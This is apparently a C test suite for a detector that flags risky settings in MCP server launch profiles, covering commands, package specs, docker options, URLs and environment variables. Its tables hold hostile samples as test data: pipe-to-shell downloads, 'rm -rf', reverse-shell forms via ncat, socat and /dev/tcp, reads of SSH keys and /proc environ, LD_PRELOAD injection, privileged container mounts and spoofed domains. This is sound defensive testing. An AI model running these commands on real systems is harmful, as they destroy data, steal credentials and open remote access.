/* test-risk.c
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include <glib/gstdio.h>

#include "mcp-risk.h"
#include "test-support.h"

/* What is marked, in order, with a bar between; "" for nothing. */
static char *
mark_all (McpProfile *profile)
{
  g_autoptr (GPtrArray) risks = mcp_risks_find (profile);
  GString *marked = g_string_new (NULL);

  for (guint i = 0; i < risks->len; i++)
    {
      const McpRisk *risk = risks->pdata[i];
      const char *whole = risk->place == MCP_RISK_ARGUMENT   ? mcp_profile_get_argv (profile)[risk->index]
                          : risk->place == MCP_RISK_CWD      ? mcp_profile_get_settings (profile)->cwd
                          : risk->place == MCP_RISK_VARIABLE ? mcp_profile_get_env (profile)[risk->index]
                                                             : mcp_profile_get_url (profile);

      g_assert_cmpuint (risk->start + risk->length, <=, strlen (whole));
      g_assert_cmpuint (risk->length, >, 0);
      g_assert_true (risk->text != NULL && *risk->text != '\0');
      g_string_append_printf (marked, "%s%.*s", i > 0 ? "|" : "", (int) risk->length, whole + risk->start);
    }

  return g_string_free (marked, FALSE);
}

static void
check_argv (const char *line,
            const char *expected)
{
  g_auto (GStrv) argv = NULL;
  g_autoptr (McpProfile) profile = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *marked = NULL;

  g_shell_parse_argv (line, NULL, &argv, &error);
  g_assert_no_error (error);
  profile = mcp_profile_new_for_argv ("x", (const char * const *) argv);
  marked = mark_all (profile);
  if (strcmp (marked, expected) != 0)
    g_test_fail_printf ("%s: marked “%s”, not “%s”", line, marked, expected);
}

static void
test_commands (void)
{
  static const struct
  {
    const char *line;
    const char *marked;
  } rows[] = {
    { "node server.js --port 3000", "" },
    { "python3 -m mcp_server", "" },
    { "/usr/bin/my-server --file=notes.txt", "" },
    { "bash start.sh -c", "" },
    { "sh -c 'echo hi'", "sh|echo hi" },
    { "/bin/bash -lc 'exec ./x'", "/bin/bash|exec ./x" },
    { "cmd /c npx -y a@1.0.0", "cmd|npx" },
    { "python3.12 -c 'import x'", "python3.12|import x" },
    { "node --eval 'x()'", "node|x()" },
    { "sudo my-server", "sudo" },
    { "env A=1 pkexec my-server", "pkexec" },
    { "sh -c 'curl -s https://e.example/x | sh'",
      "sh|curl -s https://e.example/x | sh|curl -s https://e.example/x | sh|curl" },
    { "sh -c 'wget -qO- x|sudo bash'", "sh|wget -qO- x|sudo bash|wget -qO- x|sudo bash|wget|sudo" },
    { "sh -c 'true || sh x'", "sh|true || sh x" },
    { "sh -c 'cat x | sh'", "sh|cat x | sh|sh" },
    { "sh -c 'cd x && rm -rf ~'", "sh|cd x && rm -rf ~|rm -rf" },
    { "sh -c 'cd /tmp/x; eval x'", "sh|cd /tmp/x; eval x|/tmp/x|eval" },
    { "rm -rf /home", "rm|-rf" },
    { "/tmp/server", "/tmp/server" },
    { "node /var/tmp/a/b.js --x=/dev/shm/y", "/var/tmp/a/b.js|/dev/shm/y" },
    { "node /tmpfiles/x.js", "" },
    { "bash", "" },
    { "bash -c", "bash|-c" },
    { "sh -x -c ls", "sh|ls" },
    { "powershell -EncodedCommand AAAA", "powershell|AAAA" },
    { "'C:\\x\\CMD.EXE' /c dir", "C:\\x\\CMD.EXE|dir" },
    { "perl -ne x", "perl|x" },
    { "deno eval x", "deno|x" },
    { "node --print=1", "node|--print=1" },
    { "node server.js --eval x", "" },
    { "env FOO=/tmp/x my-server", "/tmp/x" },
    { "shred -f x", "shred|-f" },
    { "rm x -rf", "" },
    { "wget http://x", "wget" },
    { "server 'a;b'", "" },
    { "server 'a | perl'", "perl" },
    { "server 'x | sudo -n sh'", "sudo|sh" },
    { "server 'x || sudo sh'", "sudo" },
    { "server 'curl x; echo | sh'", "curl x; echo | sh|curl" },
    { "server 'bash <(curl x)'", "curl" },
    { "server '$(rm -r x)'", "rm -r" },
    { "server 'rm x; ls -r'", "" },
    { "server 'medieval x; evaluate y'", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    check_argv (rows[i].line, rows[i].marked);
}

/* Programs that have others run, and options that make an interpreter run something else than its file. */
static void
test_programs (void)
{
  static const struct
  {
    const char *line;
    const char *marked;
  } rows[] = {
    { "env -S 'sh -c \"x\"'", "env|sh -c \"x\"" },
    { "env --split-string='x y'", "env|--split-string=x y" },
    { "/usr/bin/env -iS 'x y'", "/usr/bin/env|x y" },
    { "env A=1 my-server", "" },
    { "find . -exec x ;", "find|x" },
    { "my-server find -exec x", "" },
    { "find . -name x -delete", "find|-delete" },
    { "awk 'BEGIN{system(\"id\")}'", "awk|BEGIN{system(\"id\")}" },
    { "python3 -Ic 'import os'", "python3|import os" },
    { "python3 -W ignore -c x", "python3|x" },
    { "python3 '-cimport os'", "python3|-cimport os" },
    { "python3 -u server.py -c x", "" },
    { "python3 -", "-" },
    { "python3 -m server -c x", "" },
    { "node --import data:text/javascript,x server.js", "node|data:text/javascript,x|data:text/javascript,x" },
    { "node --import=data:text/javascript,x server.js", "node|--import=data:text/javascript,x|--import=data:text/javascript,x" },
    { "node -r ./x.js server.js", "node|./x.js" },
    { "node --max-old-space-size=100 server.js", "" },
    { "nodejs -pe x", "nodejs|x" },
    { "deno run https://example.com/x.ts", "https://example.com/x.ts" },
    { "deno run -A server.ts https://example.com/", "" },
    { "bun run server.ts", "" },
    { "bash /dev/fd/0", "/dev/fd/0" },
    { "bash -s", "bash|-s" },
    { "sh -o pipefail -c x", "sh|x" },
    { "sh /dev/stdin", "/dev/stdin" },
    { "perl -MSocket -we x", "perl|x" },
    { "perl -Mre=debug server.pl", "" },
    { "ruby -rsocket -e x", "ruby|x" },
    { "php -r x", "php|x" },
    { "php -d auto_prepend_file=/x server.php", "php|auto_prepend_file=/x" },
    { "lua -e x", "lua|x" },
    { "osascript -e x", "osascript|x" },
    { "java -javaagent:/x.jar -jar y.jar", "java|-javaagent:/x.jar" },
    { "java -jar y.jar", "" },
    { "uv run https://example.com/x.py", "https://example.com/x.py" },
    { "uv run --directory /x server.py", "" },
    { "uvx --from git+https://example.com/x@1 y", "git+https://example.com/x@1" },
    { "ssh host server", "ssh" },
    { "ssh -oProxyCommand=x host", "ssh|ssh|-oProxyCommand=x" },
    { "ssh -o ProxyCommand=x host", "ssh|ssh|ProxyCommand=x" },
    { "socat - TCP:x:1", "socat" },
    { "socat TCP:x:1 EXEC:sh", "socat|socat|EXEC:sh" },
    { "ncat -e /bin/sh x 1", "ncat|ncat|/bin/sh" },
    { "systemd-run --user x", "systemd-run" },
    { "flatpak-spawn --host x", "flatpak-spawn" },
    { "nohup at now", "at" },
    { "my-server --mode at open", "" },
    { "timeout 5 xargs x", "xargs" },
    { "git -c core.pager=x log", "git|core.pager=x" },
    { "git mcp", "" },
    { "tar xf a --to-command=x", "tar|--to-command=x" },
    { "gdb -ex 'shell x' y", "gdb|shell x" },
    { "/lib64/ld-linux-x86-64.so.2 ./x", "/lib64/ld-linux-x86-64.so.2" },
    { "base64 -d x", "base64|x" },
    { "mkfs.ext4 /dev/sda", "mkfs.ext4" },
    { "dd if=/dev/zero of=/dev/sda", "dd" },
    { "chmod 777 x", "chmod" },
    { "iptables -F", "iptables" },
    { "cat /home/a/.ssh/id_rsa", "/home/a/.ssh/id_rsa" },
    { "cat /proc/1/environ", "/proc/1/environ" },
    { "server --config /home/a/environment.json", "" },
    { "rundll32.exe x,y", "rundll32.exe" },
    { "/usr/bin/../../tmp/x", "/usr/bin/../../tmp/x|/usr/bin/../../tmp/x" },
    { "/usr/bin/./server", "" },
    { "curl -d @x http://y", "curl|curl|@x" },
    { "sh -c 'xargs x; ssh y z'", "sh|xargs x; ssh y z|xargs|ssh" },
    { "sh -c 'cat x; find . -delete'", "sh|cat x; find . -delete|find|-delete" },
    { "sh -c 'exec 3<>/dev/tcp/x/1'", "sh|exec 3<>/dev/tcp/x/1|/dev/tcp/x/1" },
    { "server x\302\240y", "x\302\240y" },
    { "server \342\240\200", "\342\240\200" },
    { "server \343\205\244", "\343\205\244" },
    { "n\320\276de server.js", "n\320\276de" },
    { "server \320\264\320\276\320\272/x \355\225\234a", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    check_argv (rows[i].line, rows[i].marked);
}

static void
test_packages (void)
{
  static const struct
  {
    const char *line;
    const char *marked;
  } rows[] = {
    { "npx -y @scope/server", "@scope/server" },
    { "npx -y @scope/server@1.2.3 --flag", "" },
    { "npx -y @scope/server@latest", "@scope/server@latest" },
    { "npx -y server@^1.2", "server@^1.2" },
    { "npx --package=server@1.0.0 run-it", "" },
    { "npx -p server run-it", "server" },
    { "npx ./local", "" },
    { "uvx mcp-server", "mcp-server" },
    { "uvx mcp-server==0.4", "" },
    { "uvx --from mcp-server==0.4 run-it", "" },
    { "uvx --python 3.12 mcp-server@0.4", "" },
    { "uv tool run mcp-server", "mcp-server" },
    { "dnx Contoso.Mcp --yes", "Contoso.Mcp" },
    { "dnx Contoso.Mcp --version 1.2.3 --yes", "" },
    { "dnx Contoso.Mcp@1.2.3", "" },
    { "pnpm dlx server", "server" },
    { "pnpm install server", "" },
    { "go run example.com/x@v1.2.3", "" },
    { "go run example.com/x@latest", "example.com/x@latest" },
    { "go run ./x", "" },
    { "npx -y server@1.x", "server@1.x" },
    { "npx -y 'server@>=1'", "server@>=1" },
    { "npx -y server@v1.2.3", "" },
    { "npx -y @scope", "@scope" },
    { "npx -y @scope/x@", "@scope/x@" },
    { "npx -p a@1.0.0 -p evil run-it", "evil" },
    { "npx --package=a@1.0.0 --package=evil run-it", "--package=evil" },
    { "npx -p a@1.0.0 run-it evil", "" },
    { "npx --cache /x -y server", "server" },
    { "npx --cache=/x server", "server" },
    { "npx -p", "" },
    { "npm exec -- server", "server" },
    { "npm exec server@1.0.0", "" },
    { "npm install server", "" },
    { "yarn dlx -p a@1.0.0 b", "" },
    { "bun x server", "server" },
    { "uvx 'mcp==1.0.*'", "mcp==1.0.*" },
    { "uvx ~/mcp", "" },
    { "uv tool run --from mcp x", "mcp" },
    { "pipx run --spec mcp==1.0 mcp", "" },
    { "pipx run mcp", "mcp" },
    { "sudo npx -y server", "sudo|server" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    check_argv (rows[i].line, rows[i].marked);
}

static void
test_containers (void)
{
  static const struct
  {
    const char *line;
    const char *marked;
  } rows[] = {
    { "docker run -i --rm mcp/x:1.2", "" },
    { "docker run -i --rm mcp/x", "mcp/x" },
    { "docker run -i --rm localhost:5000/x:latest", "localhost:5000/x:latest" },
    { "docker run mcp/x@sha256:00", "" },
    { "docker run -v /home:/h -v data:/d mcp/x:1", "/home:/h" },
    { "podman run --volume=/:/host mcp/x:1", "--volume=/:/host" },
    { "docker run --mount type=bind,source=/,target=/x mcp/x:1", "type=bind,source=/,target=/x" },
    { "docker run --mount type=volume,source=a,target=/x mcp/x:1", "" },
    { "docker run -v /var/run/docker.sock:/s mcp/x:1", "/var/run/docker.sock:/s" },
    { "docker run --privileged --network host --pid=host mcp/x:1", "--privileged|host|--pid=host" },
    { "docker run --network none -e A=/b mcp/x:1 --privileged", "" },
    { "docker ps", "" },
    { "docker run", "" },
    { "docker --context x run y", "y" },
    { "docker run --cap-add SYS_ADMIN x:1", "SYS_ADMIN" },
    { "docker run --cap-add=ALL x:1", "--cap-add=ALL" },
    { "docker run --device /dev/sda x:1", "/dev/sda" },
    { "docker run --privileged=false x:1", "" },
    { "docker run --privileged=true x:1", "--privileged=true" },
    { "docker run -v/:/h x:1", "-v/:/h" },
    { "docker run -v ~/x:/h x:1", "~/x:/h" },
    { "docker run -v '$HOME:/h' x:1", "$HOME:/h" },
    { "docker run -v ./x:/h x:1", "./x:/h" },
    { "docker run --volumes-from other x:1", "" },
    { "docker run --network=container:y x:1", "" },
    { "docker run --uts host --net=host x:1", "host|--net=host" },
    { "docker run x:1 sh -c 'rm -rf /'", "sh|rm -rf /|rm -rf" },
    { "docker run x:", "x:" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    check_argv (rows[i].line, rows[i].marked);
}

static void
test_urls (void)
{
  static const struct
  {
    const char *url;
    const char *marked;
  } rows[] = {
    { "https://example.com/mcp", "" },
    { "wss://example.com/mcp", "" },
    { "https://8.8.8.8/mcp", "" },
    { "http://example.com/mcp", "http" },
    { "ws://example.com/mcp", "ws" },
    { "http://localhost:8000/mcp", "localhost" },
    { "http://127.0.0.1:8000/mcp", "127.0.0.1" },
    { "https://10.1.2.3/mcp", "10.1.2.3" },
    { "https://172.31.0.1/", "172.31.0.1" },
    { "https://172.32.0.1/", "" },
    { "https://192.168.0.1/", "192.168.0.1" },
    { "https://169.254.169.254/latest", "169.254.169.254" },
    { "https://100.64.0.1/", "100.64.0.1" },
    { "https://[::1]/", "::1" },
    { "https://[fd00::1]/", "fd00::1" },
    { "https://[fe80::1]/", "fe80::1" },
    { "https://[::ffff:10.0.0.1]/", "::ffff:10.0.0.1" },
    { "https://0x7f000001/", "0x7f000001" },
    { "https://intranet/mcp", "intranet" },
    { "https://printer.local/mcp", "printer.local" },
    { "https://a:b@example.com/", "a:b" },
    { "unix:/run/x.sock", "unix:/run/x.sock" },
    { "tcp:127.0.0.1:9000", "127.0.0.1" },
    { "tcp:example.com:9000", "tcp" },
    { "tcp:10.0.0.1:9000", "tcp|10.0.0.1" },
    { "https://${HOST}/mcp", "https://${HOST}/mcp" },
    { "http://[::1]:8000/", "::1" },
    { "https://0.0.0.0/", "0.0.0.0" },
    { "https://224.0.0.1/", "224.0.0.1" },
    { "https://100.63.255.255/", "" },
    { "https://100.127.255.255/", "100.127.255.255" },
    { "https://100.128.0.1/", "" },
    { "https://172.15.255.255/", "" },
    { "https://[fec0::1]/", "fec0::1" },
    { "https://[2001:db8::1]/", "" },
    { "https://a.localhost/", "a.localhost" },
    { "https://m\303\274nchen.example/", "m\303\274nchen.example" },
    { "https://xn--mnchen-3ya.example/", "xn--mnchen-3ya.example" },
    { "https://p\320\260ypal.example/", "p\320\260ypal.example|p\320\260ypal.example" },
    { "https://xn--pypal-4ve.example/", "xn--pypal-4ve.example|xn--pypal-4ve.example" },
    { "https://example\343\200\202com/", "example\343\200\202com|example\343\200\202com" },
    { "https://example.com\342\201\204x.evil.example/",
      "example.com\342\201\204x.evil.example|example.com\342\201\204x.evil.example" },
    { "https://example.com%E2%88%95x.evil.example/",
      "example.com%E2%88%95x.evil.example|example.com%E2%88%95x.evil.example" },
    { "https://db.internal/", "db.internal" },
    { "https://internal.example.com/", "" },
    { "https://localhost.example.com/", "" },
    { "http://user@10.0.0.1/", "http|user|10.0.0.1" },
    { "https://example.com@10.0.0.1/", "example.com|10.0.0.1" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr (McpProfile) profile = mcp_profile_new_for_url ("x", rows[i].url);
      g_autofree char *marked = mark_all (profile);

      if (strcmp (marked, rows[i].marked) != 0)
        g_test_fail_printf ("%s: marked “%s”, not “%s”", rows[i].url, marked, rows[i].marked);
    }
}

/* Its directory and its variables; of those the names are marked. */
static void
test_around (void)
{
  const char *argv[] = { "my-server", NULL };
  const char *env[] = { "API_KEY=1", "LD_PRELOAD=/x.so", "PATH=/evil", "npm_config_registry=http://x", NULL };
  g_autofree char *folder = test_make_folder ();
  g_autoptr (McpProfile) profile = mcp_profile_new_for_argv ("x", argv);
  g_autofree char *marked = NULL;
  g_autofree char *expected = NULL;

  mcp_profile_set_env (profile, env);
  g_object_set (profile, "cwd", folder, NULL);
  marked = mark_all (profile);
  expected = g_strdup_printf ("%s|LD_PRELOAD|PATH|npm_config_registry", folder);
  g_assert_cmpstr (marked, ==, expected);
}

/* Each variable by its name, however it is written, and none that only looks like one. */
static void
test_variables (void)
{
  static const char * const marked[] = {
    "PATH", "Path", "LD_PRELOAD", "ld_audit", "NODE_OPTIONS", "PYTHONPATH", "BASH_ENV", "GIT_SSH_COMMAND",
    "npm_config_registry", "PIP_INDEX_URL", "UV_INDEX", "DOCKER_HOST", "NODE_TLS_REJECT_UNAUTHORIZED",
    "SSL_CERT_FILE", "PYTHONHTTPSVERIFY", "npm_config_node_options", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0",
    "OPENSSL_CONF", "HOME", "HTTP_PROXY", "https_proxy", "LUA_INIT", "LUA_INIT_5_4", "SSH_ASKPASS", "HOMEBREW_A_DOMAIN",
    "OPENAI_BASE_URL", "XDG_CONFIG_HOME", "CLASSPATH", "GOFLAGS", "RUSTC_WRAPPER", "PS4", "IFS", "ZDOTDIR", "A\342\200\256B", "C\nD",
  };
  static const char * const plain[] = {
    "PATHS", "MYPATH", "OLD_PRELOAD", "API_KEY", "NODE_ENV", "PYTHONUNBUFFERED", "HOMES", "DOCKER", "É", "POSTGRES_PASSWORD", "DATABASE_URL",
    "LOG_LEVEL", "PORT", "DEBUG", "TZ", "GITHUB_TOKEN",
  };
  const char *argv[] = { "my-server", NULL };

  for (gsize i = 0; i < G_N_ELEMENTS (marked) + G_N_ELEMENTS (plain); i++)
    {
      const char *name = i < G_N_ELEMENTS (marked) ? marked[i] : plain[i - G_N_ELEMENTS (marked)];
      g_autofree char *variable = g_strconcat (name, "=LD_PRELOAD=/tmp/x", NULL);
      const char *env[] = { "FIRST=1", variable, NULL };
      g_autoptr (McpProfile) profile = mcp_profile_new_for_argv ("x", argv);
      g_autoptr (GPtrArray) risks = NULL;

      mcp_profile_set_env (profile, env);
      risks = mcp_risks_find (profile);
      if (risks->len != (i < G_N_ELEMENTS (marked) ? 1 : 0))
        g_test_fail_printf ("%s: %u", name, risks->len);
      else if (risks->len > 0)
        {
          const McpRisk *risk = risks->pdata[0];

          g_assert_cmpint (risk->place, ==, MCP_RISK_VARIABLE);
          g_assert_cmpuint (risk->index, ==, 1);
          g_assert_cmpuint (risk->start, ==, 0);
          g_assert_cmpuint (risk->length, ==, strlen (name));
        }
    }
}

static void
assert_bounded_environment (void)
{
  const char *argv[] = { "server", NULL };
  g_autoptr (McpProfile) profile = mcp_profile_new_for_argv ("x", argv);
  g_autoptr (GPtrArray) env = g_ptr_array_new ();
  g_autoptr (GPtrArray) risks = NULL;
  gint64 before = test_get_worked_usec ();
  guint n = 0;
  char *setting;

  for (guint i = 0; i < 20000; i++)
    g_ptr_array_add (env, (char *) "ORDINARY=1");
  g_ptr_array_add (env, NULL);
  mcp_profile_set_env (profile, (const char * const *) env->pdata);
  risks = mcp_risks_find (profile);
  g_assert_cmpuint (risks->len, ==, 1);
  for (; (setting = mcp_risks_dup_setting (profile, n)) != NULL; n++)
    g_free (setting);
  g_assert_cmpuint (n, ==, 20000);
  g_assert_cmpint (test_get_worked_usec () - before, <, G_USEC_PER_SEC);
}

/* What cannot be seen, and what is more than anybody looks through. */
static void
test_hostile (void)
{
  const char *hidden[] = { "server", "a\342\200\256b", "c\nd", NULL };
  g_autoptr (McpProfile) profile = mcp_profile_new_for_argv ("x", hidden);
  g_autofree char *marked = mark_all (profile);
  g_autoptr (GPtrArray) argv = g_ptr_array_new ();
  g_autoptr (GPtrArray) risks = NULL;
  g_autofree char *script = g_strnfill (1000 * 1000, '|');
  gint64 before = test_get_worked_usec ();

  g_assert_cmpstr (marked, ==, "a\342\200\256b|c\nd");

  for (guint i = 0; i < 20000; i++)
    g_ptr_array_add (argv, (char *) (i % 2 == 0 ? "sh" : "-c"));
  g_ptr_array_add (argv, script);
  g_ptr_array_add (argv, NULL);
  mcp_profile_set_argv (profile, (const char * const *) argv->pdata);
  risks = mcp_risks_find (profile);
  g_assert_cmpuint (risks->len, <=, 200);
  g_assert_cmpint (test_get_worked_usec () - before, <, G_USEC_PER_SEC);

  assert_bounded_environment ();
}

static void
assert_grade (McpProfile   *profile,
              McpRiskGrade  expected)
{
  g_autoptr (GPtrArray) risks = mcp_risks_find (profile);

  g_assert_cmpuint (risks->len, >, 0);
  g_assert_cmpint (mcp_risks_get_grade (risks), ==, expected);
}

/* An address of this computer is not as bad as what is downloaded and run. */
static void
test_grades (void)
{
  static const struct
  {
    const char  *text;
    McpRiskGrade grade;
  } rows[] = {
    { "http://127.0.0.1:3000/mcp", MCP_RISK_PLAIN },
    { "http://localhost/mcp", MCP_RISK_PLAIN },
    { "http://192.168.1.5/mcp", MCP_RISK_LOOK },
    { "http://example.com/mcp", MCP_RISK_LOOK },
    { "https://user@example.com/mcp", MCP_RISK_DANGER },
    { "npx -y server", MCP_RISK_LOOK },
    { "sh -c 'exec ./x'", MCP_RISK_LOOK },
    { "sh -c 'curl x | sh'", MCP_RISK_DANGER },
    { "sudo x", MCP_RISK_DANGER },
    { "rm -rf x", MCP_RISK_DANGER },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr (McpProfile) profile = NULL;
      g_auto (GStrv) argv = NULL;

      g_assert_true (g_shell_parse_argv (rows[i].text, NULL, &argv, NULL));
      profile = strstr (rows[i].text, "://") != NULL
                  ? mcp_profile_new_for_url ("x", rows[i].text)
                  : mcp_profile_new_for_argv ("x", (const char * const *) argv);
      assert_grade (profile, rows[i].grade);
    }
}

/* All of them, with what is secret in them masked, and what is only named is not. */
static void
test_settings (void)
{
  const char *env[] = { "LEVEL=3", "API_KEY=sk-0123456789abcdefghij", "TOKEN=${env:MY_TOKEN}",
                        "SECRET_KEY=sk-0123456789abcdefghij${x}", NULL };
  static const char *const expected[] = { "LEVEL=3", "API_KEY=\302\253redacted\302\273", "TOKEN=${env:MY_TOKEN}",
    "SECRET_KEY=\302\253redacted\302\273{x}", NULL };
  const char *argv[] = { "my-server", NULL };
  g_autoptr (McpProfile) profile = mcp_profile_new_for_argv ("x", argv);

  mcp_profile_set_env (profile, env);
  for (guint i = 0; i <= G_N_ELEMENTS (env) - 1; i++)
    {
      g_autofree char *setting = mcp_risks_dup_setting (profile, i);

      g_assert_cmpstr (setting, ==, expected[i]);
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/session/risk/commands", test_commands);
  g_test_add_func ("/session/risk/programs", test_programs);
  g_test_add_func ("/session/risk/packages", test_packages);
  g_test_add_func ("/session/risk/containers", test_containers);
  g_test_add_func ("/session/risk/urls", test_urls);
  g_test_add_func ("/session/risk/grades", test_grades);
  g_test_add_func ("/session/risk/variables", test_variables);
  g_test_add_func ("/session/risk/settings", test_settings);
  g_test_add_func ("/session/risk/around", test_around);
  g_test_add_func ("/session/risk/hostile", test_hostile);

  return g_test_run ();
}
